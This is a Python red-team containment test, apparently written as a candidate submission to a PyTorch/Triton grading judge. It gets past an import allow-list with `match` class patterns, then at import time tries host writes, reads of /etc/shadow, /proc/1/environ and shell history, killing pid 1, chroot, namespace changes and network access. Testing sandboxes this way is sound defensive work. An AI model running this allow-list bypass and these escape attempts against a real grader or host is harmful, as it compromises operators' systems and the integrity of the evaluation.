"""
Red team 4, class: containment (jail escape / host effects, run as root).

The allow-list bars `import os` and dunders, but a `match` class pattern reads
attributes by keyword: `case object(os=o)` gives torch.os, `case object(__import__=imp)`
on torch.sys.modules["builtins"] gives the import function. With them, at import, the
candidate tries what an attacker would: writes to host paths (the checkout, /root, /etc,
/tmp, /dev/shm), host-global files (/proc/sys/kernel/*, /proc/sysrq-trigger,
/sys/kernel/*), the judge (/proc/1 environ, fds, oom_score_adj, SIGKILL/SIGTERM to
pid 1), descriptors it inherited (/proc/self/fd), namespaces and mounts through ctypes
(unshare, mount, setns), and a raised core limit. It then raises with a summary of what
got through so the verdict carries it (a crash is the expected verdict). Host side:
markers named redteam4_jail_* must not appear, settings must not change.
"""
import torch
import triton
import triton.language as tl


def _grab():
    match torch:
        case object(os=o, sys=s):
            pass
    match s.modules["builtins"]:
        case object(__import__=imp):
            pass
    return o, s, imp


def _probe():
    o, s, imp = _grab()
    px = s.modules["posix"]  # the raw module: the surroundings readers replace os.* names
    got = []

    def attempt(label, fn):
        try:
            r = fn()
            got.append("%s:OK%s" % (label, "" if r is None else "=" + str(r)[:60]))
        except BaseException as e:  # noqa: BLE001
            got.append("%s:no(%s)" % (label, str(e)[:40]))
        s.stderr.write(got[-1] + "\n")
        s.stderr.flush()

    # writes through torch.save (opened in C++: no Python open, no audit event)
    for path in ("/work/main/redteam4_jail_marker", "/root/redteam4_jail_marker",
                 "/etc/redteam4_jail_marker", "/tmp/redteam4_jail_marker",
                 "/dev/shm/redteam4_jail_marker", "/usr/redteam4_jail_marker",
                 "/var/tmp/redteam4_jail_marker", "/sys/kernel/redteam4_jail_marker",
                 "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"):
        attempt("save " + path, lambda p=path: torch.save("redteam4", p))
    # reads through torch.from_file (C++ open + mmap)
    for path in ("/etc/shadow", "/etc/machine-id", "/etc/hostname", "/proc/1/environ",
                 "/work/main/README.md", "/root/.bash_history"):
        attempt("read " + path, lambda p=path: bytes(torch.from_file(p, size=16, dtype=torch.uint8).tolist()))
    attempt("ids", lambda: (px.getuid(), px.geteuid(), px.uname().nodename, px.getpid()))
    attempt("ls /", lambda: sorted(px.listdir("/")))
    attempt("w /proc/1/oom_score_adj", lambda: torch.save("5", "/proc/1/oom_score_adj"))
    attempt("kill 1 TERM", lambda: px.kill(1, 15))
    attempt("kill 1 KILL", lambda: px.kill(1, 9))
    resource = imp("resource")
    attempt("core limit up", lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20)))
    attempt("chroot", lambda: px.chroot("/tmp"))
    ctypes = imp("ctypes")
    attempt("unshare(NEWUSER)", lambda: check(ctypes.CDLL(None, use_errno=True).unshare(0x10000000), ctypes))
    socket = imp("socket")
    attempt("inet socket", lambda: socket.create_connection(("1.1.1.1", 53), timeout=2))
    return got


def open_read(o, path):
    fd = o.open(path, o.O_RDONLY)
    try:
        return o.read(fd, 4096)
    finally:
        o.close(fd)


def safe_link(o, path):
    try:
        return o.readlink(path)
    except OSError:
        return "?"


def check(rc, ctypes):
    if rc != 0:
        raise OSError(ctypes.get_errno(), "failed")
    return rc


raise RuntimeError("REDTEAM4 PROBE " + " | ".join(_probe()))


@triton.jit
def _never(x_ptr):
    tl.store(x_ptr, 0.0)


def run(x):
    return x
